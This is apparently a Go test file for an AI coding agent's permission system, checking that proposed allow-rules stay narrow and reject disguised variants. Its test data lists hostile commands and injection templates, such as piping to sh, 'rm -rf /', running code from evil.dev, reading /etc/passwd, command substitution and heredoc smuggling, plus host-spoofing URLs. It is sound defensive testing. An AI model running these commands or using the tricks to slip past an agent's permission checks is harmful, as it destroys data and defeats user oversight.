package permission

import (
	"fmt"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"
	"pgregory.net/rapid"

	"pawl/agent"
)

// texts are proposed rules as people read them.
func texts(rules []AllowRule) []string {
	var all []string
	for _, rule := range rules {
		all = append(all, rule.String())
	}
	return all
}

func TestTheNarrowestUsefulRuleIsProposed(t *testing.T) {
	for _, row := range []struct {
		kind    agent.EffectKind
		subject string
		want    []string
	}{
		{agent.EffectShell, "go test ./...", []string{"shell(go test *)"}},
		{agent.EffectShell, "  go   test -run 'TestA|TestB' ./... ", []string{"shell(go test *)"}},
		{agent.EffectShell, "go vet ./...", []string{"shell(go vet *)"}},
		{agent.EffectShell, "git status", []string{"shell(git status *)"}},
		{agent.EffectShell, "git commit -m 'a b'", []string{"shell(git commit *)"}},
		{agent.EffectShell, "cargo test --all", []string{"shell(cargo test *)"}},
		{agent.EffectShell, "go test ./... && go vet ./...", []string{"shell(go test *)", "shell(go vet *)"}},
		{agent.EffectShell, "go test ./a; go test ./b", []string{"shell(go test *)"}},
		{agent.EffectShell, "go test ./... 2>&1 | tail -20", []string{"shell(go test *)", "shell(tail -20)"}},
		{agent.EffectShell, "git push origin main", []string{"shell(git push origin main)"}},
		{agent.EffectShell, "git diff HEAD~1", []string{"shell(git diff 'HEAD~1')"}},
		{agent.EffectShell, "rm -rf build", []string{"shell(rm -rf build)"}},
		{agent.EffectShell, "make test", []string{"shell(make test)"}},
		{agent.EffectShell, "npm run build", []string{"shell(npm run build)"}},
		{agent.EffectShell, "./script.sh 'a b' \"it's\"", []string{`shell(./script.sh 'a b' "it's")`}},
		{agent.EffectShell, "find . -name '*.go'", []string{"shell(find . -name '*.go')"}},
		{agent.EffectShell, "python3 manage.py test", []string{"shell(python3 manage.py test)"}},
		{agent.EffectShell, "python3 -m pytest -q", []string{"shell(python3 -m pytest -q)"}},
		{agent.EffectShell, "sed -n 1,20p x", []string{"shell(sed -n 1,20p x)"}},
		{agent.EffectShell, "go run ./cmd/gen", []string{"shell(go run ./cmd/gen)"}},
		{agent.EffectShell, "curl -o x https://go.dev", []string{"shell(curl -o x https://go.dev)"}},
		{agent.EffectEdit, "internal/shop/refund.go", []string{"edit(internal/shop/**)"}},
		{agent.EffectEdit, "./internal/../internal/shop/refund.go", []string{"edit(internal/shop/**)"}},
		{agent.EffectEdit, "main.go", []string{"edit(main.go)"}},
		{agent.EffectEdit, ".github/workflows/ci.yml", []string{"edit(.github/workflows/ci.yml)"}},
		{agent.EffectEdit, "app/[id]/page.tsx", []string{`edit(app/\[id\]/**)`}},
		{agent.EffectFetch, "https://Go.dev:443/doc?q=1", []string{"fetch(host:go.dev)"}},
		{agent.EffectFetch, "http://[::1]:80/", []string{"fetch(host:[::1])"}},
		{agent.EffectMCP, `disk read_file {"path":"x"}`, []string{"mcp(disk__read_file)"}},
	} {
		require.Equal(t, row.want, texts(Rules{}.Propose(Default, agent.Effect{Kind: row.kind, Subject: row.subject})), row.subject)
	}
}

func TestWhereNoRuleIsSafeNoneIsProposed(t *testing.T) {
	for kind, subjects := range map[agent.EffectKind][]string{
		agent.EffectShell: {
			"sh -c 'go test'", "sh script.sh", "bash", "env A=b go test", "env go test", "xargs rm", "sudo make install", "nice go test", "timeout 5 go test", "eval x", "exec x",
			"find . -exec rm {} +", "find . -delete", "find . | xargs rm", "git -c core.pager=x log", "git -C /x status", "git apply", "git rebase -x make", "git config a b", "git submodule update",
			"go test -exec ./x", "go test -o /bin/ls", "go tool x", "go run evil.dev/x@latest", "go install ./...", "npm exec x", "npx x", "docker run x", "kubectl apply", "ssh host ls", "watch ls",
			"python3", "python3 -", "python3 -c 'x'", "python3 -m http.server", "node -e x", "perl -e x", "node /dev/stdin", "awk -f x", "sed -f x y", "tee x", "patch -p1", "psql", "dd of=x",
			"curl -K -", "curl -d @x https://go.dev", "cat x | sh", "go test ./... | tee x", "echo x | python3", "make -f x", "tar xf x --to-command=y", "rg --pre x y",
			"go test > x", "go test $(x)", "go test $X", "X=1 go test", "go test &", "cd sub && go test", "export A=b", "cd sub", "go test *", "ls ~", "for x in a; do go test; done", "f() { go test; }; f",
			"a && b && c && d", "echo " + strings.Repeat("x", maxProposalLength), "", "go test \u202e", "echo 'it''s' \"'\\$\"", "git 'st\natus'",
		},
		agent.EffectEdit:  {".git/config", "sub/.git/hooks/x", ".pawl/config.toml", ".mcp.json", "/etc/passwd", "../x", "", "."},
		agent.EffectFetch: {"https://user:pass@go.dev/", "no address", ""},
		agent.EffectMCP:   {"a__b c {}", "a b__c {}", "a_ b {}", "a _b {}", "a b* {}", "a [b] {}", "a", ""},
		agent.EffectRead:  {"x"},
	} {
		for _, subject := range subjects {
			require.Empty(t, texts(Rules{}.Propose(Default, agent.Effect{Kind: kind, Subject: subject})), "%s %q", kind, subject)
		}
	}
}

func TestAProposalNeverReachesPastAStricterRule(t *testing.T) {
	deny := ruled(t, []string{"shell(git push *)"}, nil, nil)
	ask := ruled(t, nil, []string{"shell(go test *)", "edit(vault/**)"}, nil)
	require.Empty(t, deny.Propose(Default, shellEffect("git push origin")))
	require.Empty(t, ask.Propose(Default, shellEffect("go test ./...")))
	require.Empty(t, ask.Propose(Default, agent.Effect{Kind: agent.EffectEdit, Subject: "vault/key"}))
	require.Empty(t, Rules{}.Propose(Plan, shellEffect("go test ./...")))
	some := ruled(t, nil, nil, []string{"shell(go test *)"})
	require.Equal(t, []string{"shell(ls)"}, texts(some.Propose(Default, shellEffect("go test ./... && ls"))), "what is allowed already is not proposed again")
}

// hostile are what somebody would write who knows which rules there are.
var hostile = []string{
	"%s; rm x", "%s && rm x", "%s | sh", "rm x; %s", "sh -c '%s; rm x'", "%s > .git/config", "%s $(rm x)", "%s `rm x`", "%s <(rm x)", "X=1 %s", "PATH=. %s", "env %s", "sudo %s",
	"xargs %s", "%s &", "%s\nrm x", "cd / && %s", "./%s", "/tmp/%s", "eval %s", "%s $X", "%s ~/x", "%s {a,b}", "f() { rm x; }; f; %s", "%s <<EOF\n$(rm x)\nEOF",
}

func TestAProposedRuleAllowsWhatWasAskedAndNothingThatIsDressedLikeIt(t *testing.T) {
	words := rapid.SampledFrom([]string{
		"go", "git", "cargo", "npm", "make", "ls", "rm", "cat", "./x", "find", "test", "status", "run", "push", "vet", "log", "build", "-v", "-run", "TestA", "./...", "a b", "*.go", "it's", "-exec", "-c", "--output=x", "HEAD~1", "x;y", "$X", "", "é", "漢",
	})
	rapid.Check(t, func(t *rapid.T) {
		var line []string
		for _, w := range rapid.SliceOfN(words, 1, 5).Draw(t, "words") {
			line = append(line, "'"+strings.ReplaceAll(w, "'", `'\''`)+"'")
		}
		effect := shellEffect(strings.Join(line, " "))
		proposed := Rules{}.Propose(Default, effect)
		if proposed == nil {
			return
		}
		r := Rules{Allow: proposed}
		got, _ := r.Decide(Default, effect)
		require.Equal(t, Allow, got)
		for _, dressed := range hostile {
			other := shellEffect(fmt.Sprintf(dressed, effect.Subject))
			got, _ := r.Decide(Default, other)
			require.NotEqual(t, Allow, got, "%v allows %s", texts(proposed), other.Subject)
		}
		again, err := ParseRule(proposed[0].String())
		require.NoError(t, err)
		require.Equal(t, proposed[0].String(), again.String())
	})
}

func TestAProposedRuleForAProgramHoldsForNoneOfItsTricks(t *testing.T) {
	for asked, tricks := range map[string][]string{
		"go test ./...":       {"go test -exec=./x", "go test -toolexec x", "go test -o x", "go test -test.testlogfile=x", "go run ./x", "go -C / test", "go tool x", "gotest", "go test -debug-trace=x", "go vet"},
		"git commit -m x":     {"git commit -F /etc/passwd", "git commit --file=/etc/passwd", "git -c x=y commit", "git commit -c HEAD", "git push", "git commit --template=x"},
		"git log -3":          {"git log --output=x", "git log --ext-diff", "git diff", "git log -Oorder"},
		"cargo test":          {"cargo test --config x", "cargo test --manifest-path=/x", "cargo run", "cargo +nightly test"},
		"rm -rf build":        {"rm -rf build src", "rm -rf /", "rm -rf 'build '", "rm build"},
		"find . -name '*.go'": {"find . -name x.go", "find . -name '*.go' -delete"},
	} {
		r := Rules{Allow: Rules{}.Propose(Default, shellEffect(asked))}
		require.NotEmpty(t, r.Allow, asked)
		for _, trick := range tricks {
			got, _ := r.Decide(Default, shellEffect(trick))
			require.Equal(t, Ask, got, "%v: %s", texts(r.Allow), trick)
		}
	}
	edits := Rules{Allow: Rules{}.Propose(Default, agent.Effect{Kind: agent.EffectEdit, Subject: "app/[id]/page.tsx"})}
	for _, other := range []string{"app/i/page.tsx", "app/page.tsx", "app/[id]/.git/config", "app/[id]/.pawl/x", "app/[id]x/y", "main.go", "app/[id]/../../main.go"} {
		got, _ := edits.Decide(Default, agent.Effect{Kind: agent.EffectEdit, Subject: other})
		require.Equal(t, Ask, got, other)
	}
	hosts := Rules{Allow: Rules{}.Propose(Default, agent.Effect{Kind: agent.EffectFetch, Subject: "https://go.dev/x"})}
	for _, other := range []string{"https://evil.go.dev/", "https://go.dev.evil/", "https://go.dev@evil.dev/", "https://evil.dev/?go.dev"} {
		got, _ := hosts.Decide(Default, agent.Effect{Kind: agent.EffectFetch, Subject: other})
		require.Equal(t, Ask, got, other)
	}
}
